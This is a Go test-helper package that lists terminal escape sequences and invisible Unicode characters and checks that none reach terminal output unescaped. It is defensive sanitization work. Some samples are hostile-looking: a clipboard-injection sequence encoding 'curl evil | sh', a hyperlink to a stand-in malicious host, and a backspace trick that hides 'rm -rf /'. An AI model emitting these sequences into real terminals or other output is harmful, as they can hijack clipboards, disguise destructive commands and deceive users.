// Package termsafetest is the escape-class sweep's corpus and its check, for the tests of every
// path that can carry guest text to a terminal.
package termsafetest

import (
	"fmt"
	"strings"
	"unicode"
	"unicode/utf8"
)

// Class is one kind of text a terminal would act on or hide.
type Class struct {
	Name   string
	Sample string
}

// Classes are the samples, one per kind: every one of them must reach a terminal escaped.
var Classes = []Class{
	{"CSI colour", "\x1b[31mred\x1b[0m"},
	{"CSI clear screen", "\x1b[2J\x1b[H"},
	{"CSI cursor up, erase line", "\x1b[1A\x1b[2K"},
	{"CSI title report", "\x1b[21t"},
	{"OSC 0 window title (BEL)", "\x1b]0;pwned\x07"},
	{"OSC 2 window title (ST)", "\x1b]2;pwned\x1b\\"},
	{"OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"},
	{"OSC 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"},
	{"DCS", "\x1bP+q544e\x1b\\"},
	{"APC", "\x1b_payload\x1b\\"},
	{"PM", "\x1b^payload\x1b\\"},
	{"SOS", "\x1bXpayload\x1b\\"},
	{"C1 CSI (U+009B)", "\u009b31m"},
	{"C1 OSC (U+009D) and ST (U+009C)", "\u009d0;pwned\u009c"},
	{"C1 DCS (U+0090)", "\u0090q\u009c"},
	{"C1 raw byte 0x9b", "\x9b31m"},
	{"bare ESC", "\x1b"},
	{"ESC c (reset)", "\x1bc"},
	{"BEL", "\x07"},
	{"backspace overwrite", "rm -rf /\b\b\b\b\b\b\b\bls -l   "},
	{"carriage return overwrite", "evil\rsafe"},
	{"form feed, vertical tab, NUL, DEL", "\f\v\x00\x7f"},
	{"bidi embeddings and overrides U+202A-202E", "\u202a\u202b\u202c\u202d\u202e"},
	{"bidi isolates U+2066-2069", "\u2066\u2067\u2068\u2069"},
	{"bidi marks (LRM, RLM, ALM)", "\u200e\u200f\u061c"},
	{"zero-width (ZWSP, ZWNJ, ZWJ, WJ, BOM)", "\u200b\u200c\u200d\u2060\ufeff"},
	{"invisible (soft hyphen, invisible operators, Mongolian vowel separator, tags)", "\u00ad\u2061\u2062\u2063\u2064\u180e\U000e0041"},
	{"line and paragraph separators", "\u2028\u2029"},
}

// All is every sample in one string.
func All() string {
	var b strings.Builder
	for _, c := range Classes {
		b.WriteString(c.Sample)
	}
	return b.String()
}

// Bad lists what in out a terminal would act on or not show: invalid UTF-8, C0 controls but
// newline and tab, DEL, C1 controls, format characters (bidi, zero-width, tags) and line or
// paragraph separators, each with its offset.
func Bad(out []byte) []string {
	var bad []string
	for i := 0; i < len(out); {
		r, size := utf8.DecodeRune(out[i:])
		switch {
		case r == utf8.RuneError && size <= 1:
			bad = append(bad, fmt.Sprintf("byte %#x at %d (invalid UTF-8)", out[i], i))
		case r == '\n' || r == '\t':
		case r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0):
			bad = append(bad, fmt.Sprintf("control %U at %d", r, i))
		case unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp):
			bad = append(bad, fmt.Sprintf("invisible or bidi %U at %d", r, i))
		}
		i += size
	}
	return bad
}

// TB is the part of testing.TB that Check uses.
type TB interface {
	Helper()
	Errorf(format string, args ...any)
}

// Check fails t when out holds anything Bad finds.
func Check(t TB, what string, out []byte) {
	t.Helper()
	if bad := Bad(out); len(bad) > 0 {
		if len(bad) > 8 {
			bad = append(bad[:8], fmt.Sprintf("and %d more", len(bad)-8))
		}
		t.Errorf("%s: raw terminal control reached the terminal: %s\n%q", what, strings.Join(bad, ", "), out)
	}
}
